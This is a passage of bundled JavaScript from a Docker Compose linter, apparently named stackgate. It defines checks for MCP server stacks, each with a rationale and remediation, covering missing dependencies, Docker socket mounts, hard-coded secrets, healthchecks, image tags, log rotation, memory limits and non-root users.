                continue;
            ctx.report({ messageId: 'notHealthy', data: { service: ctx.service.name, dependency: dep.name }, at: dep.path });
        }
    },
});


/***/ }),

/***/ 40380:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const did_you_mean_1 = __webpack_require__(87568);
const types_1 = __webpack_require__(15200);
const _depends_on_1 = __webpack_require__(41768);
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/depends-on-unknown',
    target: 'compose-service',
    meta: {
        title: 'depends_on names a service that does not exist',
        category: 'correctness',
        severity: 'error',
        rationale: '`docker compose up` refuses the whole stack with "depends on undefined service", usually because of a typo or a service that an environment override removed or renamed.',
        remediation: 'Fix the name, add the service to the stack, or mark the dependency `required: false` if it is optional.',
        messages: {
            unknown: 'service "{{service}}" depends on "{{dependency}}", which stack "{{stack}}" does not define{{hint}}',
        },
    },
    check(ctx) {
        const servicesNode = ctx.stack.node.entries.get('services');
        const defined = servicesNode?.kind === 'map' ? [...servicesNode.entries.keys()] : [];
        for (const dep of (0, _depends_on_1.dependenciesOf)(ctx.service.node)) {
            if (!dep.isRequired || defined.includes(dep.name))
                continue;
            const suggestion = (0, did_you_mean_1.suggest)(dep.name, defined);
            ctx.report({
                messageId: 'unknown',
                data: { service: ctx.service.name, dependency: dep.name, stack: ctx.stack.name, hint: suggestion ? `; did you mean "${suggestion}"?` : '' },
                at: dep.path,
            });
        }
    },
});


/***/ }),

/***/ 56316:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _volume_mounts_1 = __webpack_require__(16068);
const SOCKET = /(^|\/)(docker|podman|containerd)\.sock$/;
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/docker-socket-mount',
    target: 'compose-service',
    meta: {
        title: 'Service mounts the container runtime socket',
        category: 'security',
        severity: 'error',
        rationale: 'Whoever can talk to docker.sock can start a privileged container with the host\'s / mounted: the socket is root on the host, and `:ro` does not change that (it only protects the socket file, not the API). A prompt-injected MCP tool with this mount owns the machine. The CIS Docker Benchmark (5.31) and KICS ("Docker Socket Mounted In Container") flag it.',
        remediation: 'Remove the mount. If the service needs a small part of the API (e.g. listing containers), put a filtering proxy such as tecnativa/docker-socket-proxy between them and grant only the endpoints it needs.',
        messages: {
            socket: 'service "{{service}}" mounts the container runtime socket {{source}}',
        },
    },
    check(ctx) {
        for (const m of (0, _volume_mounts_1.volumeMountsOf)(ctx.service.value.volumes)) {
            if (m.type !== 'bind' && !m.source.startsWith('/'))
                continue;
            const source = (0, _volume_mounts_1.normalizeHostPath)(m.source);
            if (SOCKET.test(source))
                ctx.report({ messageId: 'socket', data: { service: ctx.service.name, source }, at: ['volumes', m.index] });
        }
    },
});


/***/ }),

/***/ 76461:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const yaml_tree_1 = __webpack_require__(43183);
const types_1 = __webpack_require__(15200);
const _list_or_map_1 = __webpack_require__(86214);
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/duplicate-env',
    target: 'compose-file',
    meta: {
        title: 'Service sets the same environment variable twice',
        category: 'correctness',
        severity: 'warning',
        rationale: 'In the list form of `environment` (`- KEY=value`) nothing stops a name from appearing twice; Compose keeps the last one, so the value a reviewer reads first is not the one the MCP server gets. (In the map form a repeated key is a YAML error, reported by core/duplicate-key.)',
        remediation: "Keep one entry per name in the service's `environment` and delete the other.",
        messages: {
            duplicate: 'service "{{service}}" sets {{variable}} again (first set at line {{firstLine}}); the last entry wins',
        },
    },
    check(ctx) {
        const services = (0, yaml_tree_1.getNode)(ctx.root, ['services']);
        if (services?.kind !== 'map')
            return;
        for (const [service, node] of services.entries) {
            const env = (0, yaml_tree_1.getNode)(node, ['environment']);
            if (env?.kind !== 'seq')
                continue;
            const first = new Map();
            for (const entry of (0, _list_or_map_1.listOrMapEntries)(env)) {
                const key = entry.key.trim();
                if (!key)
                    continue;
                const line = (0, yaml_tree_1.getNode)(env, entry.path)?.loc.line ?? env.loc.line;
                const previous = first.get(key);
                if (previous === undefined)
                    first.set(key, line);
                else
                    ctx.report({
                        messageId: 'duplicate',
                        data: { service, variable: key, firstLine: previous },
                        at: ['services', service, 'environment', ...entry.path],
                    });
            }
        }
    },
});


/***/ }),

/***/ 43389:
/***/ (function(__unused_webpack_module, exports, __webpack_require__) {


var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", ({ value: true }));
const node_path_1 = __importDefault(__webpack_require__(76760));
const repository_path_1 = __webpack_require__(29545);
const yaml_tree_1 = __webpack_require__(43183);
const types_1 = __webpack_require__(15200);
const _path_fields_1 = __webpack_require__(69968);
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/env-file-missing',
    target: 'compose-file',
    meta: {
        title: 'env_file names a file that does not exist',
        category: 'correctness',
        severity: 'error',
        rationale: '`docker compose up` stops with "env file ... not found" when a service\'s `env_file` is missing, so the stack does not start; a renamed or never-committed file is the usual cause. A file that .gitignore excludes is taken to be kept on the deploy host and is not reported. dclint reports missing env files too.',
        remediation: 'Commit the file, fix the path (it is relative to the Compose file), add it to .gitignore if it is supplied on the host, or mark the entry optional: `env_file: [{ path: ./local.env, required: false }]`.',
        messages: {
            missing: 'service "{{service}}" env_file "{{file}}" does not exist in the repository{{hint}}',
        },
    },
    check(ctx) {
        const services = (0, yaml_tree_1.getNode)(ctx.root, ['services']);
        if (services?.kind !== 'map')
            return;
        const dir = node_path_1.default.posix.dirname(ctx.file);
        for (const [service, node] of services.entries) {
            (0, _path_fields_1.forEachPath)((0, yaml_tree_1.getNode)(node, ['env_file']), (fileNode, sub, item) => {
                if (fileNode.kind !== 'scalar' || typeof fileNode.value !== 'string' || fileNode.value.includes('$'))
                    return;
                const required = item.kind === 'map' ? (0, yaml_tree_1.getNode)(item, ['required']) : undefined;
                if (required?.kind === 'scalar' && (required.value === false || required.value === 'false'))
                    return;
                // Paths that leave the repository are compose/path-outside-repository's.
                const file = (0, repository_path_1.resolveInRepository)(dir, fileNode.value);
                if (!file || ctx.fileState(file) !== 'missing')
                    return;
                const example = ['example', 'sample', 'dist', 'template'].map((s) => `${file}.${s}`).find((f) => ctx.fileState(f) === 'present');
                ctx.report({
                    messageId: 'missing',
                    data: {
                        service,
                        file: fileNode.value,
                        hint: example ? `; create it from ${example} and add it to .gitignore, or commit it` : '',
                    },
                    at: ['services', service, 'env_file', ...sub],
                });
            });
        }
    },
});


/***/ }),

/***/ 80563:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const detector_1 = __webpack_require__(85455);
const yaml_tree_1 = __webpack_require__(43183);
const types_1 = __webpack_require__(15200);
const _list_or_map_1 = __webpack_require__(86214);
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/hardcoded-secret',
    target: 'compose-file',
    meta: {
        title: 'Secret written into a Compose file',
        category: 'security',
        readiness: 'secrets',
        severity: 'error',
        rationale: 'A token or password in a Compose file is in git history forever, in every clone and CI log, and visible to anyone who can run `docker inspect` on the host. Leaked GitHub, cloud and LLM API keys are abused within minutes of being pushed. gitleaks, trufflehog and the KICS "Passwords And Secrets" rule catch the same pattern.',
        remediation: 'Revoke and rotate the secret first. Then reference it: `TOKEN: ${TOKEN}` with the value in an untracked env file or CI secret, or better a Compose `secrets:` entry mounted at /run/secrets and read through `*_FILE` variables.',
        messages: {
            environment: 'service "{{service}}" sets {{key}} to a hard-coded {{rule}}: {{preview}}',
            buildArg: 'service "{{service}}" passes a hard-coded {{rule}} as build argument {{key}}: {{preview}}; build args are stored in the image history',
        },
    },
    check(ctx) {
        const services = (0, yaml_tree_1.getNode)(ctx.root, ['services']);
        if (services?.kind !== 'map')
            return;
        for (const [service, node] of services.entries) {
            if (node.kind !== 'map')
                continue;
            scan(node, ['environment'], (key, preview, rule, path) => ctx.report({ messageId: 'environment', data: { service, key, rule, preview }, at: ['services', service, ...path] }));
            scan(node, ['build', 'args'], (key, preview, rule, path) => ctx.report({ messageId: 'buildArg', data: { service, key, rule, preview }, at: ['services', service, ...path] }));
        }
    },
});
function scan(service, field, found) {
    for (const entry of (0, _list_or_map_1.listOrMapEntries)((0, yaml_tree_1.getNode)(service, field))) {
        if (entry.value === null)
            continue;
        const match = (0, detector_1.detectSecret)({ key: entry.key, value: entry.value });
        // Only the key, the rule and the redacted preview leave this function: never the value.
        if (match)
            found(entry.key, match.redacted, match.description, [...field, ...entry.path]);
    }
}


/***/ }),

/***/ 2949:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const TIMINGS = ['interval', 'timeout', 'retries'];
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/healthcheck-incomplete',
    target: 'compose-service',
    meta: {
        title: 'Healthcheck relies on Docker default timings',
        category: 'reliability',
        severity: 'info',
        rationale: 'Docker defaults a healthcheck to a 30s interval, a 30s timeout and 3 retries, so a hung MCP server is noticed only after about 90 seconds, and without start_period a slow start counts as failures and can mark the container unhealthy (and restart it under an orchestrator) before it ever served.',
        remediation: 'Set every timing explicitly, e.g. `interval: 15s`, `timeout: 5s`, `retries: 3`, `start_period: 30s` (and `start_interval: 2s` on Docker 25+).',
        messages: {
            missingTimings: 'healthcheck of service "{{service}}" does not set {{missing}} (Docker defaults: 30s interval, 30s timeout, 3 retries)',
            missingStartPeriod: 'healthcheck of service "{{service}}" has no start_period: failures during startup count against its retries',
        },
    },
    check(ctx) {
        const hc = ctx.service.value.healthcheck;
        if (!hc || typeof hc !== 'object' || Array.isArray(hc))
            return;
        const h = hc;
        if (h.disable === true || (Array.isArray(h.test) && h.test[0] === 'NONE'))
            return;
        const data = { service: ctx.service.name };
        const missing = TIMINGS.filter((k) => h[k] === undefined || h[k] === null);
        if (missing.length)
            ctx.report({ messageId: 'missingTimings', data: { ...data, missing: missing.join(', ') }, at: ['healthcheck'] });
        if (h.start_period === undefined || h.start_period === null)
            ctx.report({ messageId: 'missingStartPeriod', data, at: ['healthcheck'] });
    },
});


/***/ }),

/***/ 19497:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/healthcheck-missing',
    target: 'compose-service',
    meta: {
        title: 'Service has no healthcheck',
        category: 'reliability',
        severity: 'warning',
        rationale: 'Without a healthcheck Docker reports a container as running while the MCP server inside is hung or still starting, depends_on cannot wait for it, and Portainer shows it green.',
        remediation: 'Add a healthcheck that probes the server, e.g. `healthcheck: { test: ["CMD", "wget", "-qO-", "http://localhost:8501/health"], interval: 30s, timeout: 5s, retries: 3, start_period: 20s }`.',
        messages: {
            missing: 'service "{{service}}" has no healthcheck',
            disabled: 'service "{{service}}" disables its healthcheck',
        },
    },
    check(ctx) {
        const hc = ctx.service.value.healthcheck;
        const data = { service: ctx.service.name };
        if (!hc || typeof hc !== 'object') {
            // An image may define HEALTHCHECK itself; a service built from a Dockerfile is checked there.
            if (ctx.service.value.build !== undefined)
                return;
            ctx.report({ messageId: 'missing', data, at: hc === undefined ? [] : ['healthcheck'] });
            return;
        }
        const test = hc.test;
        if (hc.disable === true || (Array.isArray(test) && test[0] === 'NONE')) {
            ctx.report({ messageId: 'disabled', data, at: ['healthcheck'] });
        }
    },
});


/***/ }),

/***/ 64912:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const KEYS = {
    network_mode: 'network',
    pid: 'PID',
    ipc: 'IPC',
    uts: 'UTS',
    userns_mode: 'user',
    cgroup: 'cgroup',
};
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/host-namespace',
    target: 'compose-service',
    meta: {
        title: 'Service shares a host namespace',
        category: 'security',
        severity: 'warning',
        rationale: 'Sharing the host network exposes every port the service opens on every host interface and bypasses published-port control; the host PID/IPC namespaces let it see, signal and ptrace host processes and read their shared memory; userns_mode: host turns off user-namespace remapping. kube-linter (host-network, host-pid, host-ipc) and Polaris (hostNetworkSet, hostPIDSet, hostIPCSet) flag the Kubernetes equivalents. It is a warning, not an error, because host agents such as node-exporter legitimately need it.',
        remediation: 'Remove the setting; publish the ports the service needs with `ports:` on a user-defined network.',
        messages: {
            hostNamespace: 'service "{{service}}" shares the host {{namespace}} namespace ({{key}}: host)',
        },
    },
    check(ctx) {
        for (const [key, namespace] of Object.entries(KEYS)) {
            const v = ctx.service.value[key];
            if (typeof v === 'string' && v.trim().toLowerCase() === 'host') {
                ctx.report({ messageId: 'hostNamespace', data: { service: ctx.service.name, namespace, key }, at: [key] });
            }
        }
    },
});


/***/ }),

/***/ 8128:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _image_ref_1 = __webpack_require__(55262);
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/image-digest',
    target: 'compose-service',
    meta: {
        title: 'Image is pinned by tag but not by digest',
        category: 'supply-chain',
        severity: 'info',
        rationale: 'Tags are mutable: a compromised registry account or a re-pushed tag changes what `mcp-server:1.4.2` means without any change in the repository. A digest pins the exact bytes that were reviewed and scanned. hadolint DL3006/DL3007 and the SLSA guidance recommend digests for production images.',
        remediation: 'Append the digest: `image: ghcr.io/acme/mcp-server:1.4.2@sha256:<digest>` (Renovate and Dependabot keep both up to date).',
        messages: {
            noDigest: 'service "{{service}}" pins image "{{image}}" by tag only, not by digest',
        },
    },
    check(ctx) {
        const v = ctx.service.value;
        if (typeof v.image !== 'string' || v.build !== undefined)
            return;
        const ref = (0, _image_ref_1.parseImageRef)(v.image.trim());
        // Untagged and :latest images are compose/image-latest-tag's finding.
        if (ref.digest || !ref.tag || ref.tag.toLowerCase() === 'latest')
            return;
        ctx.report({ messageId: 'noDigest', data: { service: ctx.service.name, image: v.image.trim() }, at: ['image'] });
    },
});


/***/ }),

/***/ 41970:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _image_ref_1 = __webpack_require__(55262);
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/image-latest-tag',
    target: 'compose-service',
    meta: {
        title: 'Image is not pinned to a version',
        category: 'supply-chain',
        severity: 'error',
        rationale: "An image without a tag, or with `latest`, deploys whatever was pushed last: a redeploy or a host pulling fresh can silently change the MCP server's version, and a rollback has nothing to go back to. kube-linter (latest-tag), Polaris (tagNotSpecified) and hadolint DL3007 flag it. Services with `build:` are skipped: their `image:` names the local build result.",
        remediation: 'Pin a version tag, e.g. `image: ghcr.io/acme/mcp-server:1.4.2` (or `${MCP_VERSION}` set per environment), ideally with a digest.',
        messages: {
            noTag: 'service "{{service}}" uses image "{{image}}" without a tag (implicitly :latest)',
            latest: 'service "{{service}}" uses image "{{image}}" with the mutable :latest tag',
            emptyTag: 'service "{{service}}" uses image "{{image}}" with an empty tag (is its ${VARIABLE} unset?)',
        },
    },
    check(ctx) {
        const v = ctx.service.value;
        if (typeof v.image !== 'string' || v.build !== undefined)
            return;
        const image = v.image.trim();
        if (!image)
            return;
        const ref = (0, _image_ref_1.parseImageRef)(image);
        const data = { service: ctx.service.name, image };
        if (ref.digest)
            return;
        if (ref.tag === undefined)
            ctx.report({ messageId: 'noTag', data, at: ['image'] });
        else if (ref.tag === '')
            ctx.report({ messageId: 'emptyTag', data, at: ['image'] });
        else if (ref.tag.toLowerCase() === 'latest')
            ctx.report({ messageId: 'latest', data, at: ['image'] });
    },
});


/***/ }),

/***/ 45446:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
/** Reported by the engine while building the effective stacks. */
exports["default"] = (0, types_1.defineEngineCheck)({
    id: 'compose/invalid-env-file',
    engine: 'compose-problem',
    meta: {
        title: 'Env file line is malformed',
        category: 'correctness',
        severity: 'warning',
        rationale: 'docker compose fails, or silently skips the variable, on lines that are not KEY=VALUE.',
        remediation: 'Write each variable as KEY=VALUE; quote values with spaces.',
        messages: { line: '{{detail}}' },
    },
});


/***/ }),

/***/ 87569:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
/** Reported by the engine while building the effective stacks. */
exports["default"] = (0, types_1.defineEngineCheck)({
    id: 'compose/invalid-extends',
    engine: 'compose-problem',
    meta: {
        title: 'extends cannot be resolved',
        category: 'correctness',
        severity: 'error',
        rationale: 'docker compose fails to load a service whose extends names a missing service or file, or forms a cycle.',
        remediation: 'Point extends at an existing service (and file, relative to this file).',
        messages: { extends: '{{detail}}' },
    },
});


/***/ }),

/***/ 37714:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
/** Reported by the engine while building the effective stacks. */
exports["default"] = (0, types_1.defineEngineCheck)({
    id: 'compose/invalid-interpolation',
    engine: 'compose-problem',
    meta: {
        title: 'Interpolation syntax is invalid',
        category: 'correctness',
        severity: 'error',
        rationale: 'docker compose rejects malformed ${...} expressions when it loads the file.',
        remediation: 'Use $VAR, ${VAR}, ${VAR:-default}, ${VAR:?error} or ${VAR:+alt}; write $$ for a literal dollar sign.',
        messages: { syntax: '{{detail}}' },
    },
});


/***/ }),

/***/ 89391:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const _podman_1 = __webpack_require__(47574);
const types_1 = __webpack_require__(15200);
const _depends_on_1 = __webpack_require__(41768);
/** Drivers that keep logs on the host disk without rotating them unless told to. */
const UNROTATED = new Set(['json-file']);
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/log-rotation',
    target: 'compose-service',
    meta: {
        title: 'Container logs are never rotated',
        category: 'operations',
        severity: 'warning',
        productionOnly: true,
        rationale: 'Docker\'s default json-file driver keeps every log line forever: a chatty or looping MCP server fills /var/lib/docker and takes every container on the host down with "no space left on device". The `local` driver and remote drivers rotate or ship logs; json-file only with max-size. A stack run by Podman (podman-compose.yml, a podman/ directory, x-podman) without logging settings is not reported: Podman logs to journald on systemd hosts. (If /etc/docker/daemon.json already sets log-opts on every host, turn this check off.)',
        remediation: 'Add `logging: { driver: json-file, options: { max-size: "10m", max-file: "3" } }` (a YAML anchor in `x-logging` keeps it short), or use `driver: local`. One-shot jobs that other services wait for (`condition: service_completed_successfully`) are not checked.',
        messages: {
            noLogging: 'service "{{service}}" uses the default json-file log driver without max-size, so its logs grow until the disk is full',
            noMaxSize: 'service "{{service}}" logs with the {{driver}} driver without options.max-size, so its logs grow until the disk is full',
        },
    },
    check(ctx) {
        // A one-shot job others wait for runs once: its log stops growing when it exits.
        if ((0, _depends_on_1.isOneShotJob)(ctx.stack.services, ctx.service.name))
            return;
        const logging = ctx.service.value.logging;
        const data = { service: ctx.service.name };
        // Podman's default driver is journald (rotated by the journal) or k8s-file, not Docker's json-file.
        if (!logging || typeof logging !== 'object' || Array.isArray(logging)) {
            if ((0, _podman_1.runsOnPodman)(ctx.stack))
                return;
            ctx.report({ messageId: 'noLogging', data, at: ['logging'] });
            return;
        }
        const l = logging;
        const driver = typeof l.driver === 'string' && l.driver.trim() ? l.driver.trim() : 'json-file';
        if (!UNROTATED.has(driver))
            return;
        const options = l.options && typeof l.options === 'object' ? l.options : {};
        const maxSize = options['max-size'];
        if (maxSize === undefined || maxSize === null || maxSize === '' || maxSize === '-1') {
            ctx.report({ messageId: 'noMaxSize', data: { ...data, driver }, at: ['logging', 'options'] });
        }
    },
});


/***/ }),

/***/ 58757:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/memory-limit',
    target: 'compose-service',
    meta: {
        title: 'Service has no memory limit',
        category: 'resources',
        severity: 'warning',
        productionOnly: true,
        rationale: "A container without a memory limit can take all of the host's memory: one leaking MCP server gets the host OOM killer to kill its neighbours (or the Docker daemon). kube-linter (unset-memory-requirements) and Polaris (memoryLimitsMissing) flag the Kubernetes equivalent.",
        remediation: 'Set `deploy.resources.limits.memory: 512M` (sized from observed usage plus headroom), or the legacy `mem_limit: 512m`.',
        messages: {
            missing: 'service "{{service}}" has no memory limit',
            unlimited: 'service "{{service}}" sets its memory limit to {{value}}, which means unlimited',
        },
    },
    check(ctx) {
        const v = ctx.service.value;
        const data = { service: ctx.service.name };
        const limits = limitsOf(v.deploy);
        const [value, at] = limits?.memory !== undefined && limits.memory !== null ? [limits.memory, ['deploy', 'resources', 'limits', 'memory']] : [v.mem_limit, ['mem_limit']];
        if (value === undefined || value === null || value === '') {
            ctx.report({ messageId: 'missing', data, at: ['deploy', 'resources', 'limits', 'memory'] });
            return;
        }
        if (value === 0 || value === '0' || value === -1 || value === '-1')
            ctx.report({ messageId: 'unlimited', data: { ...data, value: String(value) }, at });
    },
});
function limitsOf(deploy) {
    if (!deploy || typeof deploy !== 'object')
        return undefined;
    const resources = deploy.resources;
    if (!resources || typeof resources !== 'object')
        return undefined;
    const limits = resources.limits;
    return limits && typeof limits === 'object' ? limits : undefined;
}


/***/ }),

/***/ 15274:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
/** Reported by the engine while building the effective stacks. */
exports["default"] = (0, types_1.defineEngineCheck)({
    id: 'compose/missing-stack-file',
    engine: 'compose-problem',
    meta: {
        title: 'Stack lists a Compose file that does not exist',
        category: 'correctness',
        severity: 'error',
        rationale: 'A stack whose layer file is missing cannot be deployed the way stackgate.yml describes it.',
        remediation: 'Fix the path in stacks.<name>.files / environments, or add the file.',
        messages: { missing: '{{detail}}' },
    },
});


/***/ }),

/***/ 34760:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const zod_1 = __webpack_require__(50924);
const types_1 = __webpack_require__(15200);
const _list_or_map_1 = __webpack_require__(86214);
/** stackgate's own discovery label, asked when the repository names none. */
const DEFAULT_LABELS = ['com.mcp.type'];
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/monitoring-labels',
    target: 'compose-service',
    meta: {
        title: 'Service lacks the labels monitoring discovery relies on',
        category: 'observability',
        severity: 'warning',
        // Its labels are those of MCP discovery: a repository without MCP servers has nothing to label.
        mcpOnly: true,
        rationale: 'Prometheus docker_sd, Grafana dashboards and the MCP health probes find servers by container labels (by default `com.mcp.type`). A service without them is deployed but invisible: nothing scrapes it, no alert fires when it goes down.',
        remediation: 'Add the labels to the service, e.g. `labels: { com.mcp.type: "server" }`; list the labels your discovery uses in this check\'s `required` option. Where no service of the stack carries the default label and `required` is not set, a missing label is info: the repository\'s discovery is not known to use it.',
        messages: {
            missing: 'service "{{service}}" is missing monitoring label(s) {{labels}}',
        },
    },
    options: zod_1.z.strictObject({
        required: zod_1.z
            .array(zod_1.z.string())
            .default([...DEFAULT_LABELS])
            .describe('Labels every service must carry (list or map syntax both count).'),
    }),
    check(ctx) {
        const labelsOf = (node) => new Set((0, _list_or_map_1.listOrMapEntries)(node).map((e) => e.key.trim()));
        const { required } = ctx.options;
        const present = labelsOf(ctx.service.node.entries.get('labels'));
        const missing = required.filter((label) => !present.has(label));
        if (!missing.length)
            return;
        // stackgate's default label, which no service of the stack carries: the repository's discovery is
        // not known to use it, so that is a note; labels it lists in `required`, or uses elsewhere, warn.
        const isDefault = required.length === DEFAULT_LABELS.length && required.every((l, i) => l === DEFAULT_LABELS[i]);
        const usedInStack = isDefault &&
            ctx.stack.services.some((s) => {
                const labels = labelsOf(s.node.entries.get('labels'));
                return required.some((label) => labels.has(label));
            });
        ctx.report({ messageId: 'missing', data: { service: ctx.service.name, labels: missing.join(', ') }, at: ['labels'], atInfo: isDefault && !usedInStack });
    },
});


/***/ }),

/***/ 2465:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const _windows_1 = __webpack_require__(55270);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/no-new-privileges',
    target: 'compose-service',
    meta: {
        title: 'Processes may gain privileges through setuid binaries',
        category: 'security',
        severity: 'warning',
        rationale: 'Without no-new-privileges, a process in the container can become root through a setuid binary (su, sudo, a vulnerable helper) even when the service runs as a non-root user. The Kubernetes restricted Pod Security Standard requires allowPrivilegeEscalation: false, which kube-linter (privilege-escalation-container) and Polaris (privilegeEscalationAllowed) check. Windows containers are not checked (runsWindowsContainer: `platform: windows`, `isolation:`, a Windows base image, the `nat` network or a `windows/` directory): they have no setuid bits to guard against.',
        remediation: 'Add `security_opt: ["no-new-privileges:true"]` to the service.',
        messages: {
            missing: 'service "{{service}}" does not set security_opt no-new-privileges:true',
            disabled: 'service "{{service}}" explicitly allows privilege escalation ({{option}})',
        },
    },
    check(ctx) {
        if ((0, _windows_1.runsWindowsContainer)(ctx.stack, ctx.service))
            return;
        const opts = ctx.service.value.security_opt;
        const list = Array.isArray(opts) ? opts : [];
        const index = list.findIndex((o) => typeof o === 'string' && /^no-new-privileges([:=].*)?$/i.test(o.trim()));
        const data = { service: ctx.service.name };
        if (index < 0) {
            ctx.report({ messageId: 'missing', data, at: ['security_opt'] });
            return;
        }
        const option = String(list[index]).trim();
        if (/[:=]\s*(false|no|0)$/i.test(option))
            ctx.report({ messageId: 'disabled', data: { ...data, option }, at: ['security_opt', index] });
    },
});


/***/ }),

/***/ 19988:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const _windows_1 = __webpack_require__(55270);
const image_users_1 = __webpack_require__(8816);
const list_services_1 = __webpack_require__(63251);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/non-root-user',
    target: 'compose-service',
    meta: {
        title: 'Service may run as root',
        category: 'security',
        severity: 'warning',
        rationale: "Most images run as root unless told otherwise; a compromised MCP server then owns the container, every mounted volume and, through any kernel bug, the host. kube-linter (run-as-non-root) and Polaris (runAsRootAllowed) flag the Kubernetes equivalent. Services built from a local Dockerfile are only reported for an explicit root `user:`, because their USER is checked by dockerfile/user-root; nor are images known not to run their server as root (postgres, redis, mysql, mariadb, mongo and rabbitmq step down in their entrypoint; grafana, prometheus, the OpenTelemetry collector, n8n, bitnami images and others set a non-root USER). Without a user, the warning is for images known to run as root (official base, language and web-server images, common tools, distroless without its nonroot tag) and for MCP servers; any other image's user is in the image, which validate does not pull, so that finding is info. Windows containers are not checked (runsWindowsContainer: `platform: windows`, `isolation:`, a Windows base image, the `nat` network or a `windows/` directory): they have no root user (their users are ContainerAdministrator and ContainerUser).",
        remediation: 'Set `user: "1001:1001"` (a UID the image supports), or build the image with a non-root `USER`.',
        messages: {
            noUser: 'service "{{service}}" sets no user, so it runs as the image\'s default user (root for most images)',
            unknownImage: 'service "{{service}}" sets no user, and whether image {{image}} runs as root is not known here: set `user:`, or check the image\'s USER',
            rootUser: 'service "{{service}}" runs as root (user: {{user}})',
        },
    },
    check(ctx) {
        if ((0, _windows_1.runsWindowsContainer)(ctx.stack, ctx.service))
            return;
        const v = ctx.service.value;
        const data = { service: ctx.service.name };
        const user = v.user;
        if (user === undefined || user === null || user === '') {
            const image = typeof v.image === 'string' ? v.image.trim() : '';
            const imageUser = (0, image_users_1.defaultImageUser)(image);
            if (v.build !== undefined || imageUser === 'non-root')
                return;
            // Root is certain for images known to run as root (and an MCP server is where it matters most);
            // for any other image the user is in the image, which is not pulled: a note, not a warning.
            if (!image || imageUser === 'root' || (0, list_services_1.looksLikeMcpServer)({ name: ctx.service.name, hosts: [], images: [image] })) {
                ctx.report({ messageId: 'noUser', data, at: [] });
            }
            else
                ctx.report({ messageId: 'unknownImage', data: { ...data, image }, at: [], atInfo: true });
            return;
        }
        const text = String(user).trim();
        if (/^(root|0)(:.*)?$/.test(text))
            ctx.report({ messageId: 'rootUser', data: { ...data, user: text }, at: ['user'] });
    },
});


/***/ }),

/***/ 95270:
/***/ (function(__unused_webpack_module, exports, __webpack_require__) {


var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", ({ value: true }));
const node_path_1 = __importDefault(__webpack_require__(76760));
const repository_path_1 = __webpack_require__(29545);
const yaml_tree_1 = __webpack_require__(43183);
const types_1 = __webpack_require__(15200);
const _path_fields_1 = __webpack_require__(69968);
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/path-outside-repository',
    target: 'compose-file',
    meta: {
        title: 'Compose file refers to a file outside the repository',
        category: 'correctness',
        readiness: 'compose',
        severity: 'warning',
        rationale: 'An `include`, `env_file` or `extends.file` that is absolute or climbs out of the repository with `..` names a file of whatever machine runs `docker compose`: the stack then depends on state that is in no review, and stackgate neither reads nor checks it (it never reads outside the repository it was given).',
        remediation: 'Keep the file in the repository and refer to it relatively (`env_file: ./env/prod.env`); for values that must not be committed, use variables set at deploy time (a Portainer stack variable, a CI secret) or Compose `secrets:`.',
        messages: {
            outside: '{{field}} "{{file}}" is outside the repository: stackgate does not read it, and the stack depends on a file of the machine that deploys it',
        },
    },
    check(ctx) {
